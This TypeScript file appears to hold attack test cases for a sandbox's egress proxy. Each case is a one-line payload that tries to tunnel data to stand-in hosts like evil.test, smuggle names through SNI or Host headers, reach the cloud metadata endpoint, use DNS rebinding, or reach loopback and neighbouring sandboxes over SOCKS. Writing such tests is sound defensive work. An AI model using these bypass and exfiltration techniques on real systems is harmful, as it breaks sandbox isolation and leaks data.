// The proxy that programs may ask for a connection, at the gateway's address: it must be no way around anything.

import { type AttackCase, cases } from './case.ts'

export const PROXY: AttackCase[] = [
  ...cases({ as: 'root', recorded: 'connection' }, [
    [
      'X-connect-address',
      'a tunnel to an address',
      'tunnelled(f"{evil()}:443", record(hello("good.example")) + data())',
    ],
    ['X-connect-denied', 'a tunnel to a denied name', 'tunnelled(f"{token()}.evil.test:443", data())'],
    [
      'X-connect-sni',
      'a tunnel to an allowed name, with another in the ClientHello',
      'tunnelled("good.example:443", record(hello("evil.test")) + data())',
    ],
    [
      'X-connect-host',
      'a tunnel to an allowed name, with another as Host',
      'tunnelled("good.example:80", get("evil.test"))',
    ],
    [
      'X-connect-binary',
      'a tunnel to an allowed name, with neither TLS nor HTTP',
      'tunnelled("good.example:22", b"SSH-2.0-" + data() + b"\\r\\n")',
    ],
    [
      'X-connect-metadata',
      'a tunnel to the metadata service',
      'tunnelled("169.254.169.254:80", get(METADATA))',
    ],
    [
      'X-connect-rebind',
      'a tunnel to an allowed name with a private address',
      '[to(f"r{local.number}.private.rebind.example"), tunnelled(f"r{local.number}.private.rebind.example:80", data())][-1]',
    ],
    ['X-connect-host-port', 'a tunnel to the host itself', 'tunnelled(f"{HOST}:{HOST_PORT}", data())'],
    ['X-connect-neighbour', 'a tunnel to another sandbox', 'tunnelled(f"{NEIGHBOUR}:{port()}", data())'],
    [
      'X-connect-gateway',
      'a tunnel to the proxy itself',
      'tunnelled(f"{GATEWAY}:{FACTS[\'proxyPort\']}", get(evil()))',
    ],
    [
      'X-absolute',
      'a request for a denied name',
      'tcp(GATEWAY, int(FACTS["proxyPort"]), say=get(f"{token()}.evil.test", f"http://{token()}.evil.test/"))',
    ],
    [
      'X-socks-address',
      'a tunnel to an address by SOCKS',
      'socks(b"\\1" + socket.inet_aton(evil()), 443, data())',
    ],
    [
      'X-socks-name',
      'a tunnel to a denied name by SOCKS',
      '(lambda name: [to(name), socks(b"\\3" + bytes([len(name)]) + name.encode(), 443, data())][-1])(f"{token()}.evil.test")',
    ],
    [
      'X-socks-loopback',
      'a tunnel to the loopback address of the host by SOCKS',
      '[to("127.0.0.1"), socks(b"\\1" + socket.inet_aton("127.0.0.1"), HOST_PORT, data())][-1]',
    ],
  ]),
  ...cases({ as: 'root', expect: 'allowed', recorded: 'quiet' }, [
    [
      'X-control-absolute',
      'control: a request whose target is allowed, and whose Host, which the server is not told, is not',
      'tcp(GATEWAY, int(FACTS["proxyPort"]), say=get("evil.test", f"http://good.example/{token()}"))',
    ],
    [
      'X-control',
      'control: a tunnel to an allowed name',
      'tunnelled("good.example:80", get("good.example"))',
    ],
  ]),
]
